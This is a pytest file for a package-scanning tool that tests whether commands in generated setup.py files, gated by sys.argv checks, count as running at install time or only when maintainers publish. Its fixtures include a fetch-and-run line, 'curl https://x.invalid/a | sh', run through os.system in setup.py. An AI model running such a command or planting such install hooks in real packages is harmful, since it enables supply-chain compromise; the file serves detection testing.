"""What a `setup.py` does for a word that only its maintainers give; words that installers give, and what looks like either."""

import pytest
from source_lab import behaviours, the

from beartrap.model.finding import Severity
from beartrap.vet.behaviour import When
from beartrap.vet.facts import PackageFacts

AT_INSTALL = PackageFacts("pypi", runs={"setup.py": When.INSTALL})
RELEASE = 'import os, sys\nfrom setuptools import setup\nif TEST:\n    os.system("COMMAND")\n    sys.exit()\nsetup(name="x")\n'
FETCH = "curl https://x.invalid/a | sh"


def written(test: str, command: str) -> str:
    return RELEASE.replace("TEST", test).replace("COMMAND", command)


@pytest.mark.parametrize(
    "test",
    [
        'sys.argv[-1] == "publish"', '"release" in sys.argv', 'len(sys.argv) > 1 and sys.argv[1] == "tag"', 'sys.argv[1] in ("publish", "tag")',
        '"publish" == sys.argv[-1]', '"upload_all" in sys.argv[1:]',
    ],
)  # fmt: skip
def test_what_a_maintainer_asks_for_waits_and_may_publish(test: str) -> None:
    assert the("setup.py", written(test, FETCH), "process.piped", AT_INSTALL).when is When.CALL
    found = behaviours("setup.py", written(test, "twine upload dist/*"), AT_INSTALL)
    assert all(one.severity < Severity.MEDIUM for one in found)


@pytest.mark.parametrize(
    "test",
    [
        'sys.argv[-1] == "install"', '"bdist_wheel" in sys.argv', 'sys.argv[0] == "setup"', 'sys.argv[0] == "setup.py"', 'sys.argv[-1] != "publish"',
        '"publish" not in sys.argv', 'sys.argv[1] in ("publish", "egg_info")', 'len(sys.argv) > 1 or sys.argv[1] == "tag"', '"-c" in sys.argv', "sys.argv[1] == word",
    ],
)  # fmt: skip
def test_what_an_installer_may_ask_for_runs_at_installation(test: str) -> None:
    assert the("setup.py", written(test, FETCH), "process.piped", AT_INSTALL).when is When.INSTALL
    assert (
        the("setup.py", written(test, "twine upload dist/*"), "propagate.publish", AT_INSTALL).severity
        is Severity.CRITICAL
    )


def test_what_else_stands_behind_such_a_word_is_told_in_other_files_as_before() -> None:
    text = written('sys.argv[-1] == "publish"', FETCH)
    assert (
        the("install.py", text, "process.piped", PackageFacts("pypi", runs={"install.py": When.INSTALL})).when
        is When.INSTALL
    )
